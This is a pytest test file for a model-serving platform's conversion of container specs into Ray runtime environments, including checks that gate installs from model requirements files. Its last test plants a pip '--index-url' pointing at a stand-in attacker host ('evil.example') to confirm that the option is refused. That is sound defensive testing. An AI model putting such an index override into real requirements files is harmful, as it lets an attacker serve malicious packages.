"""serving.control.runtime_env: a container's spec as its replicas' Ray runtime_env and
environment."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from serving.config.spec import KNOWN_IMAGES, SpecError, parse_spec
from serving.control.runtime_env import ray_runtime_env, replica_environment


def container(base_dir: Path | None = None, **fields: Any):
    document = {
        "EndpointName": "env",
        "Containers": [{"ContainerHostname": "c", "Image": "onnx", **fields}],
    }
    return parse_spec(document, base_dir=base_dir).Containers[0]


def test_every_stack_is_a_known_image() -> None:
    assert set(KNOWN_IMAGES) == {
        "sklearn",
        "pytorch",
        "tensorflow",
        "onnx",
        "xgboost",
        "lightgbm",
        "python",
        "huggingface",
        "mlflow",
    }


def test_environment_and_resource_share_go_to_the_container_process_not_to_ray() -> None:
    spec = container(Environment={"A": "1"}, Resources={"Cpus": 0.25, "Gpus": 1})
    assert replica_environment(spec) == {"A": "1", "SERVING_CPUS": "0.25", "SERVING_GPUS": "1"}
    # no env_vars: the Ray worker starts without the extra Python, and unexposed
    assert ray_runtime_env(spec) == {}


def test_the_reservation_wins_over_environment() -> None:
    spec = container(Environment={"SERVING_CPUS": "8"}, Resources={"Cpus": 1})
    assert replica_environment(spec)["SERVING_CPUS"] == "1"


def test_pip_and_working_dir(tmp_path: Path) -> None:
    (tmp_path / "lib").mkdir()
    (tmp_path / "bundle.zip").write_bytes(b"PK\x05\x06" + b"\0" * 18)
    spec = container(tmp_path, RuntimeEnvironment={"Pip": ["tabulate==0.9.0"], "WorkingDir": "lib"})
    env = ray_runtime_env(spec)
    assert env["pip"] == {"packages": ["tabulate==0.9.0"], "pip_check": False}
    assert env["working_dir"] == f"local://{(tmp_path / 'lib').resolve()}"
    zipped = container(tmp_path, RuntimeEnvironment={"WorkingDir": "bundle.zip"})
    assert ray_runtime_env(zipped)["working_dir"] == f"file://{(tmp_path / 'bundle.zip').resolve()}"


def test_empty_runtime_environment_adds_nothing() -> None:
    assert ray_runtime_env(container(RuntimeEnvironment={})) == {}


@pytest.mark.parametrize(
    ("runtime_environment", "field", "reason"),
    [
        (
            {"Pip": ["--index-url=https://example.com"]},
            "Containers[0].RuntimeEnvironment.Pip",
            "requirement specifiers only",
        ),
        ({"Pip": [""]}, "Containers[0].RuntimeEnvironment.Pip[0]", "at least 1 character"),
        (
            {"WorkingDir": "missing"},
            "Containers[0].RuntimeEnvironment.WorkingDir",
            "existing directory or .zip",
        ),
        (
            {"WorkingDir": "notes.txt"},
            "Containers[0].RuntimeEnvironment.WorkingDir",
            "existing directory or .zip",
        ),
        ({"Conda": "env.yaml"}, "Containers[0].RuntimeEnvironment.Conda", "unknown field"),
    ],
)
def test_bad_runtime_environment_names_the_field(
    tmp_path: Path, runtime_environment: dict, field: str, reason: str
) -> None:
    (tmp_path / "notes.txt").write_text("not a zip")
    with pytest.raises(SpecError) as caught:
        container(tmp_path, RuntimeEnvironment=runtime_environment)
    line = next(line for line in str(caught.value).splitlines() if line.startswith(field + ":"))
    assert reason in line


def test_oci_image_reference_is_refused_with_a_pointer() -> None:
    with pytest.raises(SpecError, match="OCI image references .* containers/README.md"):
        container(Image="123456789012.dkr.ecr.us-east-1.amazonaws.com/serving-onnx:0.1.0")


# --- a model's code/requirements.txt: installed outside the sandbox, so only where the operator
# allows it --------


def requirements_model(tmp_path: Path, text: str) -> Path:
    folder = tmp_path / "model"
    (folder / "code").mkdir(parents=True)
    (folder / "code" / "requirements.txt").write_text(text)
    return folder


def test_requirements_that_would_install_a_package_are_refused_by_default(tmp_path: Path) -> None:
    folder = requirements_model(tmp_path, "numpy>=1\nsurely-not-installed-pkg==1.0\n")
    spec = container(ModelDataUrl=str(folder))
    with pytest.raises(SpecError) as caught:
        ray_runtime_env(spec)
    message = str(caught.value)
    assert message.startswith("Containers[c].ModelDataUrl:")
    # numpy needs no install
    assert "surely-not-installed-pkg==1.0" in message and "numpy" not in message
    assert "SERVING_ALLOW_MODEL_REQUIREMENTS" in message and "RuntimeEnvironment.Pip" in message


def test_the_plan_of_every_deploy_holds_the_same_rule(tmp_path: Path) -> None:
    from serving.control.plans import endpoint_record
    from serving.settings import ServerSettings

    folder = requirements_model(tmp_path, "surely-not-installed-pkg==1.0\n")
    spec = parse_spec(
        {
            "EndpointName": "env",
            "Containers": [
                {"ContainerHostname": "c", "Image": "python", "ModelDataUrl": str(folder)}
            ],
        }
    )
    with pytest.raises(SpecError, match="surely-not-installed-pkg"):
        endpoint_record(spec, ServerSettings())
    record = endpoint_record(spec, ServerSettings(allow_model_requirements=True))
    runtime_env = record["plans"]["c"]["actor_options"]["runtime_env"]
    assert runtime_env["pip"]["packages"] == ["surely-not-installed-pkg==1.0"]


def test_allowed_requirements_install_only_what_is_missing(tmp_path: Path) -> None:
    folder = requirements_model(
        tmp_path, "numpy>=1\nsurely-not-installed-pkg==1.0\nhttps://example.com/pkg.whl\n"
    )
    env = ray_runtime_env(container(ModelDataUrl=str(folder)), allow_model_requirements=True)
    # a URL names no project to look up, so it counts as an install
    assert env["pip"]["packages"] == [
        "surely-not-installed-pkg==1.0",
        "https://example.com/pkg.whl",
    ]


def test_requirements_this_python_satisfies_need_no_runtime_env(tmp_path: Path) -> None:
    folder = requirements_model(tmp_path, "numpy>=1\npackaging\n")
    # no virtualenv copied for a no-op install
    assert ray_runtime_env(container(ModelDataUrl=str(folder))) == {}


def test_requirements_the_spec_lists_in_pip_are_vouched_for(tmp_path: Path) -> None:
    folder = requirements_model(tmp_path, "surely-not-installed-pkg==1.0\n")
    spec = container(
        ModelDataUrl=str(folder), RuntimeEnvironment={"Pip": ["surely-not-installed-pkg==1.0"]}
    )
    assert ray_runtime_env(spec)["pip"]["packages"] == ["surely-not-installed-pkg==1.0"]


def test_a_pip_option_in_requirements_names_the_container(tmp_path: Path) -> None:
    folder = requirements_model(tmp_path, "--index-url http://evil.example/simple\n")
    with pytest.raises(
        SpecError, match=r"^Containers\[c\].ModelDataUrl: code/requirements.txt: .* is a pip option"
    ):
        ray_runtime_env(container(ModelDataUrl=str(folder)), allow_model_requirements=True)
